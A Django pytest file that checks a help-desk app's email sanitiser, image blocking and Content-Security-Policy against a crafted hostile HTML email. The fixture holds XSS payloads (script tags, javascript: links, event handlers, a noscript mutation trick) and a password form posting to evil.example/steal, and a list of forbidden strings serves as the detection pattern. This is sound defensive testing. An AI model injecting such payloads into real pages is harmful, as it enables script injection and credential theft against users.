"""Hostile email HTML on the case page, through the real parser and pipeline, and its CSP."""

from __future__ import annotations

import re
from email.message import EmailMessage

import pytest
from django.urls import reverse

from kartoteka.cases.models import Case
from kartoteka.mail.models import Message
from kartoteka.mail.receiving.inbound import message_receive
from kartoteka.testing.clients import client_for
from kartoteka.testing.mail.receiving import (  # noqa: F401 - fixtures
    CUSTOMER,
    SUPPORT,
    case,
    customer,
    data_dir,
    mailbox,
)

pytestmark = pytest.mark.django_db

HOSTILE_HTML = """<html><head>
<meta http-equiv="refresh" content="0;url=https://evil.example/refresh">
<style>body { background: url(javascript:alert(1)); width: expression(alert(2)); }</style>
<script>alert("script")</script>
<base href="https://evil.example/">
</head><body onload="alert('body')">
<p onclick="alert('click')" style="background:url(javascript:alert(3))">Dzień dobry</p>
<a href="javascript:alert('link')">kliknij</a>
<a href="JaVaScRiPt:alert('mixed')">kliknij 2</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">dane</a>
<img src="x" onerror="alert('img')">
<img src="https://tracker.example/pixel.gif" alt="pixel">
<img src="http://tracker.example/plain.gif">
<svg><script>alert('svg')</script><circle onload="alert('circle')"/></svg>
<iframe src="https://evil.example/frame"></iframe>
<object data="https://evil.example/flash.swf"></object>
<embed src="https://evil.example/embed">
<form action="https://evil.example/steal"><input name="password"><button>Zaloguj</button></form>
<div style="width: expression(alert(4))">css</div>
<math><mi xlink:href="javascript:alert('math')">m</mi></math>
<table background="javascript:alert('table')"><tr><td>komórka</td></tr></table>
<noscript><p title="</noscript><img src=x onerror=alert('noscript')>">n</p></noscript>
</body></html>"""


def hostile_email(case_number: int) -> bytes:
    message = EmailMessage()
    message["From"] = f"Jan Kowalski <{CUSTOMER}>"
    message["To"] = SUPPORT
    message["Subject"] = f"[KART#{case_number}] Faktura"
    message["Message-ID"] = "<hostile@klient.example>"
    message["Date"] = "Mon, 02 Mar 2026 10:00:00 +0100"
    message.set_content("Dzień dobry (tekst)")
    message.add_alternative(HOSTILE_HTML, subtype="html")
    return message.as_bytes()


@pytest.fixture
def hostile_page(agent, mailbox, case: Case):  # noqa: F811 - fixtures
    receipt = message_receive(raw=hostile_email(case.number), mailbox=mailbox)
    assert (receipt.action, receipt.case_number) == ("appended", case.number)
    return client_for(agent).get(reverse("desk:case-detail", args=[case.number]))


def message_html(page_text: str) -> str:
    """Only what the message's HTML put on the page."""
    return "".join(
        re.findall(r'<div class="message-html">(.*?)</div>\s*</details>', page_text, re.S)
    )


def test_hostile_html_is_stored_and_shown(hostile_page):
    # then
    assert hostile_page.status_code == 200
    shown = message_html(hostile_page.text)
    assert "Dzień dobry" in shown
    assert "komórka" in shown


@pytest.mark.parametrize(
    "needle",
    [
        "<script",
        "javascript:",
        "data:text/html",
        "onload",
        "onerror",
        "onclick",
        "expression(",
        "<style",
        "style=",
        "<svg",
        "<math",
        "<iframe",
        "<object",
        "<embed",
        "<form",
        "<input",
        "<meta",
        "<base",
        "evil.example",
        "alert(",
    ],
)
def test_nothing_executable_reaches_the_page(hostile_page, needle):
    # then: not in the message's HTML, nor anywhere else on the page
    assert needle.lower() not in message_html(hostile_page.text).lower()
    assert "alert(" not in hostile_page.text
    assert "evil.example" not in hostile_page.text


def test_remote_images_are_not_loaded(hostile_page):
    # then: no element on the page loads from another origin
    sources = re.findall(r'\ssrc="([^"]*)"', hostile_page.text)
    assert [src for src in sources if not src.startswith("/")] == []
    assert "tracker.example/pixel.gif" not in re.sub(
        r'data-remote-src="[^"]*"', "", hostile_page.text
    )
    # but they are offered, on the reader's click
    assert 'data-remote-src="https://tracker.example/pixel.gif' in hostile_page.text
    assert "data-show-remote-images" in hostile_page.text


def test_the_stored_html_is_sanitised_at_parse_time(hostile_page):
    # then
    stored = Message.objects.get(message_id="hostile@klient.example").html
    for needle in ("<script", "onerror", "javascript:", "<iframe", "<form", "<svg", "<meta"):
        assert needle not in stored.lower()


def test_content_security_policy_forbids_inline_script(hostile_page):
    # then
    policy = dict(
        [*directive.split(" ", 1), ""][:2]
        for directive in hostile_page["Content-Security-Policy"].split("; ")
    )
    assert policy["script-src"] == "'self'"
    assert policy["object-src"] == "'none'"
    assert policy["base-uri"] == "'self'"
    assert policy["form-action"] == "'self'"
    assert "unsafe-inline" not in hostile_page["Content-Security-Policy"]
    assert "unsafe-eval" not in hostile_page["Content-Security-Policy"]
    # remote images may load, but only once the reader asked (see mail.display)
    assert policy["img-src"] == "'self' data: https:"


def test_the_page_has_no_inline_script_or_handler(hostile_page):
    # then: the CSP would block them anyway; the page must not need any
    text = hostile_page.text
    assert re.findall(r"<script(?![^>]*\ssrc=)", text) == []
    assert re.findall(r"\son[a-z]+=", text) == []
